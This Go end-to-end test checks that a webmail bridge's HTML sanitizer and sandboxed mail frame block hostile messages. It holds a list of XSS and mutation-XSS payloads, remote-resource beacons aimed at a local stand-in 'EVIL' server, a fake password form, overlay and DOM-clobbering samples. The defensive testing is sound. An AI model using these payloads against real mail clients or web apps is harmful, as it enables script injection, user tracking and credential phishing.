package e2e_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/hearthmail/hearthmail/bridge/e2e"
)

// hostile is HTML that wants to run, to load, to leave its frame or to look like
// the app. EVIL stands for a server that must never be asked for anything.
var hostile = []string{
	`<script>top.pwned=1;parent.pwned=1</script>`,
	`<img src=x onerror="top.pwned=1">`,
	`<svg onload="top.pwned=1"><script>top.pwned=1</script></svg>`,
	`<svg><style><img src=x onerror=top.pwned=1></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.pwned=1>`,
	`<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>`,
	`<template><img src=x onerror=top.pwned=1></template>`,
	`<iframe srcdoc="<script>top.pwned=1</script>"></iframe><iframe src="javascript:top.pwned=1"></iframe>`,
	`<object data="EVIL/object"></object><embed src="EVIL/embed">`,
	`<a href="javascript:top.pwned=1" id="click">click</a><a href="data:text/html,<script>top.pwned=1</script>">data</a>`,
	`<a href="//EVILHOST/relative">scheme</a><a href="/auth/signout">local</a>`,
	`<base href="EVIL/base/"><img src="relative.png"><link rel="stylesheet" href="EVIL/link.css"><link rel="prefetch" href="EVIL/prefetch">`,
	`<meta http-equiv="refresh" content="0;url=EVIL/refresh"><meta http-equiv="Content-Security-Policy" content="img-src *">`,
	`<img src="EVIL/pixel.gif"><img srcset="EVIL/srcset 2x"><picture><source srcset="EVIL/source"><img></picture>`,
	`<img src="//EVILHOST/noscheme"><img src="\\EVILHOST\back"><img src="&#104;ttp://EVILHOST/entity">`,
	`<body background="EVIL/background"><table background="EVIL/table"><tr><td background="EVIL/td">x</td></tr></table>`,
	`<div style="background:url(EVIL/style)">x</div><div style="background:u\72l(EVIL/escaped)">x</div>`,
	`<div style="--a:url(EVIL/var);background:var(--a)">x</div><div style="background:image-set('EVIL/set' 1x)">x</div>`,
	`<style>@import "EVIL/import";@font-face{font-family:f;src:url(EVIL/font)}body{font-family:f;background:url("EVIL/sheet")}</style>`,
	`<style>li{list-style:url(EVIL/list)}</style><ul><li>x</ul><style>@media all{p{cursor:url(EVIL/cursor),auto}}</style>`,
	`<video src="EVIL/video" poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio>`,
	`<form action="EVIL/form" method="post"><input name="password" autofocus><button>Sign in</button></form>`,
	`<div style="position:fixed;inset:0;z-index:999999;background:red" id="overlay">gotcha</div>`,
	`<div style="position:absolute;top:-2000px;left:0;width:100%;height:9999px">over</div>`,
	`<img name="documentElement"><img name="body"><a id="contentDocument">x</a>`,
	`<p id="signin" class="row toast" contenteditable tabindex="0" accesskey="s">mine</p>`,
}

// notAllowed gives what there is in a frame that should not be.
const notAllowed = `((frame) => {
	const doc = frame.contentDocument;
	if (!doc || !doc.querySelector("meta[http-equiv=Content-Security-Policy]")) return "not our frame";
	const bad = doc.querySelectorAll("script,iframe,object,embed,form,input,link,base[href],svg,math,video,audio,meta[http-equiv=refresh]");
	if (bad.length) return bad[0].outerHTML;
	for (const e of doc.querySelectorAll("*")) {
		if (["fixed", "absolute", "sticky"].includes(getComputedStyle(e).position)) return e.outerHTML;
		for (const a of e.attributes) if (/^on/i.test(a.name)) return e.outerHTML;
		if (e.tagName === "A" && e.hasAttribute("href") && !/^(https?:\/\/|mailto:|tel:)/.test(e.getAttribute("href"))) return e.outerHTML;
	}
	return frame.sandbox.contains("allow-scripts") ? "scripts allowed" : "";
})`

// TestHostileMail opens one message after the other. Nothing of it runs, nothing is
// asked of the other server, and the app is still there after each.
func TestHostileMail(t *testing.T) { hostileMail(t, e2e.StartBrowser(t)) }

func hostileMail(t *testing.T, browser *e2e.Browser) {
	var asked atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		t.Errorf("the other server was asked for %s", r.URL.Path)
	}))
	defer evil.Close()
	mail := e2e.StartProvider(t)
	for i, html := range hostile {
		html = strings.ReplaceAll(strings.ReplaceAll(html, "EVILHOST", strings.TrimPrefix(evil.URL, "http://")), "EVIL", evil.URL)
		raw := letter("Mallory <mallory@hearth.test>", "ada@hearth.test", fmt.Sprintf("Trap %02d.", i), "<html><body>"+html+"<p>the end</p></body></html>")
		mail.Deliver(t, "ada", "INBOX", []byte(strings.Replace(string(raw), "text/plain", "text/html", 1)))
	}
	p := browser.Open(t, mail.Bridge(t).URL)
	signIn(p, "ada")
	// Nor does the page ask the bridge for any picture before somebody wants it.
	p.Eval(`(() => { const real = window.fetch; window.pictures = 0;
		window.fetch = (where, how) => { if (String(where.url ?? where).includes("/pictures")) window.pictures++; return real(where, how); }; return ""; })()`)
	for i := range slices.Backward(hostile) { // the newest is the first
		subject := fmt.Sprintf("Trap %02d.", i)
		if i == len(hostile)-1 {
			p.Click("row", "~"+subject)
		} else {
			p.Press("j")
		}
		p.Wait("article", subject)
		p.WaitEval(`!document.querySelector("iframe.mail-frame:not([aria-busy])")`, "false")
		inside := p.Eval(notAllowed + `(document.querySelector("iframe.mail-frame"))`)
		if inside != "" {
			t.Errorf("%s: %s\n%s", subject, inside, hostile[i])
		}
		if got := p.Eval("window.pwned"); got != "undefined" {
			t.Fatalf("%s ran a script", subject)
		}
	}
	// Long mails go another way into their frame, and are allowed no more.
	for _, html := range hostile {
		html = strings.ReplaceAll(strings.ReplaceAll(html, "EVILHOST", strings.TrimPrefix(evil.URL, "http://")), "EVIL", evil.URL)
		inside := p.Await(fmt.Sprintf(`(async () => {
			const host = document.createElement("div");
			document.body.append(host);
			let mail;
			await new Promise((told) => { mail = hearthmail.showMail(host, "long", "<form><div>" + %q + "</div>" + "<b></b>".repeat(3100), {}, () => false, told) });
			const found = %s(host.firstChild);
			mail.close();
			host.remove();
			return found;
		})()`, html, notAllowed))
		if inside != "" || p.Eval("window.pwned") != "undefined" {
			t.Errorf("long: %.300s\n%s", inside, html)
		}
	}
	if got := p.Eval("window.pictures"); got != "0" {
		t.Errorf("the bridge was asked for %s pictures", got)
	}
	if asked.Load() > 0 {
		t.Errorf("%d requests left", asked.Load())
	}
	for line := range strings.Lines(p.Thrown()) {
		// The sanitizer's parser has the page's policy, and says so of what it is about to drop.
		if !strings.Contains(line, "Executing inline event handler") && !strings.Contains(line, "Setting the document's base URI") && strings.TrimSpace(line) != "" {
			t.Error(line)
		}
	}
}
